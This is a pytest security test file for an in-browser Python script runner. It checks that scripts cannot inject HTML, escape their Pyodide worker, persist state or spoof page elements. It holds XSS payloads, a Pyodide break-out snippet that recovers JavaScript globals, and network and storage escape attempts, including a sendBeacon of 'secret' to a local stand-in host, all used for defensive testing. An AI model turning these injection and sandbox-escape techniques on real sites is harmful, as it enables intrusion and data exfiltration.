"""Promise: a script that a stranger wrote does no harm, and leaves nothing to the next run.

A link can carry a script, and a reader may run it. It may print, and draw its run. It may not run
anything in the page, ask any host for anything, read or keep what the browser keeps, look like the
page around it, or go on after its end. In Chromium and Firefox, on the built site.
"""

from __future__ import annotations

import base64
import http.server
import threading
import zlib
from collections.abc import Iterator
from typing import Any

import pytest
from support.reader import (
    CODE,
    LISTING,
    NAME,
    PAGE,
    edit,
    edited,
    in_one_browser,
    lines,
    until,
)
from support.tab import Tab

pytestmark = [pytest.mark.timeout(240)]


@pytest.fixture
def tab(started: Tab, address: str) -> Iterator[Tab]:
    """A new profile. In the end it has asked no other host; the browser may log what it refused."""
    started.open()
    yield started
    assert not {url for url in started.asked if not url.startswith((address, "data:", "blob:"))}


HOSTILE = [
    "print('<img src=x onerror=window.broken=1><script>window.broken=1</script>')\n",
    "import asyncio\nimport tested_examples.in_the_page.run_script as page\n"
    "page.timeline_view = lambda *a, **k: '<asyncio-timeline><img src=x onerror=window.broken=1>"
    "<svg onload=window.broken=1><script>window.broken=1</script></svg></asyncio-timeline>'\n"
    "asyncio.run(asyncio.sleep(0))\n",
    "</textarea><script>window.broken=1</script><img src=x onerror=window.broken=1>\n",
]


def test_a_stranger_cannot_run_script_in_the_page(started: Tab, address: str) -> None:
    """Not with an address, with what is printed, with a timeline of its own, or by fetching."""
    tab = started
    for source in HOSTILE:
        tab.open()
        deflate = zlib.compressobj(wbits=-15)
        packed = deflate.compress(source.encode()) + deflate.flush()
        text = base64.urlsafe_b64encode(packed).decode().rstrip("=")
        tab.goto(f"{address}{PAGE}#code={NAME}:{text}")
        until(tab, "document.querySelector('textarea')")
        assert tab.do(CODE, LISTING) == source
        assert not [url for url in tab.asked if "/runtime/" in url], "an address runs nothing"
        assert tab.do(BROKEN) is None
    for source in HOSTILE:
        edited(tab, source)
        assert tab.do(BROKEN) is None
    tab.do(
        """() => { document.body.append(Object.assign(document.createElement("div"),
        {innerHTML: "<img src=data:x onerror='window.broken=1'>"})) }"""
    )
    until(tab, "document.querySelector('img[src=\"data:x\"]').complete")
    assert tab.do(BROKEN) is None, "the policy stops inline handlers"


BROKEN = "() => window.broken ?? null"


# ----------------------------------------------------------------------- out of the worker


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of another host, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def test_python_has_no_way_to_javascript(tab: Tab, address: str) -> None:
    """As on a reader's own machine, there are no such modules."""
    tab.goto(address + PAGE)
    edit(tab)
    for name in ("js", "pyodide", "pyodide_js", "_pyodide_core"):
        said = edited(tab, f"import {name}\n")
        assert said.startswith(f"Failed in line 1: ModuleNotFoundError: No module named '{name}'")


BREAK_OUT = """
import gc, sys
sys.meta_path.pop(0)
found = [each["js"] for each in gc.get_objects()
         if type(each) is dict and "js" in each and "pyodide_js" in each]
js = found[0]
"""
"""What a script does that has read how Pyodide works: it has JavaScript's global names."""

ESCAPES = {
    "a worker from the site's own file": "js.Worker.new(SITE + 'assets/run/worker.js')",
    "a worker that is shared": "js.SharedWorker.new(SITE + 'assets/run/worker.js')",
    "fetch": "js.fetch(OTHER + 'fetch')",
    "XMLHttpRequest": "js.XMLHttpRequest.new().open('GET', OTHER + 'xhr')",
    "WebSocket": "js.WebSocket.new('ws' + OTHER[4:])",
    "EventSource": "js.EventSource.new(OTHER + 'events')",
    "WebTransport": "js.WebTransport.new('https' + OTHER[4:])",
    "importScripts": "js.importScripts(OTHER + 'script.js')",
    "sendBeacon": "js.navigator.sendBeacon(OTHER + 'beacon', 'secret')",
    "files of the browser": "js.navigator.storage.getDirectory()",
    "indexedDB": "js.indexedDB.open('kept')",
    "caches": "js.caches.open('kept')",
    "BroadcastChannel": "js.BroadcastChannel.new('heard')",
    "a timer": "js.setTimeout(print, 0)",
    "an interval": "js.setInterval(print, 0)",
    "messages in the page's name": "js.postMessage('forged')",
    "a font": "js.FontFace.new('x', f'url({OTHER}font)')",
    "code in a string": "js.eval('1')",
    "code in a function": "js.Function.new('return self')()",
    "what it inherits": "js.Object.getPrototypeOf(js.self).fetch(OTHER + 'inherited')",
    "a nested worker's blob": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['1'])))",
}

TRY_ALL = """
held = []
for name, escape in ESCAPES.items():
    try:
        exec(escape)
    except Exception as error:
        held.append(name)
for name in sorted(ESCAPES):
    print(name, "is held" if name in held else "IS OPEN")
"""


def test_nothing_leads_out_of_the_worker(
    tab: Tab, address: str, elsewhere: tuple[str, list[str]]
) -> None:
    """Not even for a script that gets at JavaScript: whatever could is taken from the worker."""
    other, asked = elsewhere
    tab.goto(address + PAGE)
    edit(tab)
    names = f"SITE, OTHER = {address!r}, {other!r}\nESCAPES = {ESCAPES!r}\n"
    said = edited(tab, BREAK_OUT + names + TRY_ALL)
    assert said == "Done.", (said, lines(tab))
    assert lines(tab) == [f"{name} is held" for name in sorted(ESCAPES)]
    edited(tab, "print('next')\n")
    assert asked == []


POLICY = """async ([site, other]) => {
  const refused = new Promise((resolve) => {
    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
    setTimeout(() => resolve("nothing"), 5000);
  });
  try {
    const worker = new Worker(site + "assets/run/worker.js", { type: "module" });
    worker.onmessage = () => {};
  } catch {}
  return refused;
}"""


def test_the_policy_lets_no_worker_start_from_an_address(started: Tab, address: str) -> None:
    """Such a worker has the policy of its own file, which on most hosts is none."""
    started.open()
    started.goto(address + PAGE)
    assert started.do(POLICY, [address, ""]) == "worker-src"


# ---------------------------------------------------------------------------- the next run

FINGERPRINT = """
import asyncio, builtins, functools, gc, hashlib, json, os, random, sys, time, warnings, logging
def told(value):
    return getattr(value, "__qualname__", None) or type(value).__qualname__
state = {name: {each: told(value) for each, value in sorted(vars(module).items())}
         for name, module in sorted(sys.modules.items()) if module is not None}
state.pop("__main__")
state["files"] = sorted(os.path.join(folder, name) for top in ("/home", "/tmp", "/reader", "/lib")
                        for folder, _, names in os.walk(top) for name in names)
state["environment"] = dict(os.environ)
state["more"] = [sys.path, os.getcwd(), sys.getrecursionlimit(), len(warnings.filters),
                 repr(sys.flags), len(logging.getLogger().handlers), sys.getswitchinterval(),
                 gc.get_threshold()]
print(hashlib.sha256(json.dumps(state, sort_keys=True, default=str).encode()).hexdigest())
print(random.random())
"""

LEAVE = [
    "import asyncio\nasync def now(*_): pass\nasyncio.sleep = now\nasyncio.run(asyncio.sleep(1))\n",
    "import builtins\nbuiltins.print, builtins.left = len, 1\n",
    "import json\njson.dumps = json.loads = None\n",
    "import os\nos.environ['LEFT'] = 'behind'\nos.chdir('/tmp')\nopen('/tmp/left', 'w').close()\n",
    "import sys, types\nsys.modules['left'] = types.ModuleType('left')\nsys.path.append('/left')\n",
    "import sys\nsys.setrecursionlimit(99)\nsys.excepthook = print\ndel sys.modules['json']\n",
    "import logging\nlogging.basicConfig(level=1)\nlogging.getLogger('a').disabled = True\n",
    "import tested_examples.in_the_page.run_script as page\npage.run = page.timeline_view = None\n",
    "import time\ntime.sleep = time.time = None\n",
    "import threading\nthreading.Thread(target=threading.Event().wait, daemon=True).start()\n",
    "import random\nrandom.seed(1)\nclass Left: pass\nint.__subclasshook__\n",
]
"""What scripts change in their process, and what on a reader's machine goes with it."""


def test_no_run_finds_what_another_left(tab: Tab, address: str) -> None:
    """Modules, their functions, files, environment, hooks: all of it is as in the first run."""
    tab.goto(address + PAGE)
    edit(tab)
    edited(tab, FINGERPRINT)
    first, number = lines(tab)
    for source in LEAVE:
        edited(tab, source)
        edited(tab, FINGERPRINT)
        again, other = lines(tab)
        assert again == first, source
        assert other != number, "random numbers are new in each run"


# ------------------------------------------------------------------------- what it looks like

FORGE = '''
import asyncio, json
import tested_examples.in_the_page.run_script as page
html = """<asyncio-timeline class="timeline md-dialog" id="__search" contenteditable autofocus>
<div class="md-dialog__inner timeline__drawing" id="run-1-forged" style="color:red" onclick="x()">
<svg class="tl md-overlay"><a href="https://example.org/"><text>x</text></a>
<rect class="tl-run" fill="url(https://example.org/)" /></svg></div></asyncio-timeline>"""
page.timeline_view = lambda *_, **__: html
dumps = json.dumps
def forged(told, *given, **more):
    if isinstance(told, dict) and "lines" in told:
        told["lines"] = [["md-dialog", "forged", 0, "md-overlay tl-1 listing__head"]]
    return dumps(told, *given, **more)
page.json.dumps = forged
asyncio.run(asyncio.sleep(0))
'''

SEEN = """(selector) => {
  const listing = document.querySelector(selector);
  const made = ".listing__output *, asyncio-timeline, asyncio-timeline *";
  const all = [...listing.querySelectorAll(made)];
  return {
    classes: all.flatMap((each) => [...each.classList]),
    attributes: all.flatMap((each) => each.getAttributeNames()),
    ids: all.map((each) => each.id).filter(Boolean),
    names: all.map((each) => each.localName),
  };
}"""


@in_one_browser
def test_a_result_cannot_look_like_the_page(started: Tab, address: str) -> None:
    """Classes and ids of a result are those of a timeline, whoever made it."""
    tab = started
    tab.open()
    tab.goto(address + PAGE)
    edit(tab)
    edited(tab, FORGE)
    assert lines(tab) == ["forged"]
    seen = tab.do(SEEN, LISTING)
    ours = ("tl", "timeline", "line", "listing__label", "transcript", "stdout")
    assert "tl-1" in seen["classes"]
    assert "timeline__drawing" in seen["classes"]
    assert [name for name in seen["classes"] if not name.startswith(ours)] == []
    assert all(each.startswith("run-") for each in seen["ids"])
    assert "a" not in seen["names"]
    bad = {"style", "contenteditable", "autofocus", "onclick", "href"}
    assert bad.isdisjoint(seen["attributes"])
